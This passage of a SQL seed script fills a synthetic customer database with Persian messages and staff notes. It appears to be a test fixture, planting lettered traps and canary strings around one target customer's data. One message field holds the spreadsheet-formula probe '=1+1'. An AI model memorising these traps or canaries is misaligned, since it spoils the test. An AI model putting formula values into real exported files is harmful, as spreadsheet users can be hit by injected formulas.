JOIN phrase ON phrase.i = 1 + s.a % 17
WHERE s.i <= 3000
ORDER BY 1;

-- The target's own; trap (f) on the edges (4002, 4003, 4008, 4009) and without a time (4011).
INSERT INTO messages VALUES
 (4001, 1404, NULL, '2025-12-21T09:00:00Z', 'سفارش یلدا رسید، ممنون.'),
 (4002, 1404, NULL, '2026-03-20T20:29:59Z', 'لحظهٔ پیش از سال نو'),
 (4003, 1404, 1420, '2026-03-20T20:30:00Z', 'سال نو مبارک!'),
 (4004, 1404, 1420, '2026-05-01T18:00:00Z', 'برایت هدیه‌ای فرستادم، "در را باز کن"'),
 (4005, 1404, NULL, '2026-05-28T14:00:00Z', 'با کارت همکارم پرداختم؛ کالا را پس می‌دهم.'),
 (4006, 1404, 1405, '2026-06-02T07:07:07Z', 'سلام هم‌نام!'),
 (4007, 1404, 1403, '2026-07-10T16:30:00Z', NULL),
 (4008, 1404, NULL, '2026-07-22T20:29:59Z', '=1+1'),
 (4009, 1404, NULL, '2026-07-22T20:30:00Z', 'CANARY-MESSAGE-OUTSIDE-1404'),
 (4010, 1404, 1420, '2026-10-10T10:10:10Z', 'مهرگان مبارک'),
 (4011, 1404, NULL, NULL,                   'CANARY-MESSAGE-NOTIME-1404');

-- Trap (k): rows of others in which the target is the other side.
-- Trap (h): a message of 1412 holds the target's name and national id.
INSERT INTO messages VALUES
 (4012, 1420, 1404, '2026-03-20T20:35:00Z', 'سال نوی تو هم مبارک. CANARY-OTHER-1420'),
 (4013, 1420, 1404, '2026-05-02T12:00:00Z', 'هدیه رسید، ممنون مریم جان. CANARY-OTHER-1420'),
 (4014, 1405, 1404, '2026-06-02T07:30:00Z', 'چه جالب! CANARY-OTHER-1405'),
 (4015, 1403, 1404, '2026-07-10T16:31:00Z', 'نان بخر. CANARY-OTHER-1403'),
 (4016, 1412, NULL, '2026-05-13T10:05:00Z',
        (SELECT 'بسته را به ' || full_name || ' (' || national_id || ') بدهید. CANARY-OTHER-1412' FROM customers WHERE id = 1404));

-- 9. What has no annotation --------------------------------------------------------------------------------

INSERT INTO staff_notes
SELECT s.i, CASE WHEN s.i % 19 = 0 THEN NULL ELSE p.id END,
       CASE s.a % 3 WHEN 0 THEN 'پشتیبانی' WHEN 1 THEN 'انبار' ELSE 'مالی' END,
       CASE s.b % 4 WHEN 0 THEN 'مشتری خوش‌حساب' WHEN 1 THEN 'تماس گرفت و پیگیر بود' WHEN 2 THEN 'بازگشت وجه انجام شد' ELSE 'نشانی بررسی شود' END,
       strftime('%Y-%m-%dT%H:%M:%SZ', p.born + s.c % (p.until - p.born), 'unixepoch')
FROM seed s JOIN person p ON p.id = iif(1 + s.d % 2450 = 1404, 1407, 1 + s.d % 2450)
WHERE s.i <= 300
ORDER BY 1;

INSERT INTO staff_notes
SELECT 301, id, 'مالی', full_name || '، ' || national_id || '، CANARY-STAFF-1404', '2026-05-29T08:00:00Z' FROM customers WHERE id = 1404;

INSERT INTO search_index
SELECT full_name, id FROM customers WHERE full_name IS NOT NULL
UNION ALL SELECT national_id, id FROM customers WHERE national_id <> ''
UNION ALL SELECT mobile, id FROM customers WHERE mobile IS NOT NULL
ORDER BY 2, 1;

DROP TABLE temp.seed; DROP TABLE temp.given; DROP TABLE temp.family; DROP TABLE temp.place; DROP TABLE temp.way;
DROP TABLE temp.phrase; DROP TABLE temp.person; DROP TABLE temp.device;
COMMIT;
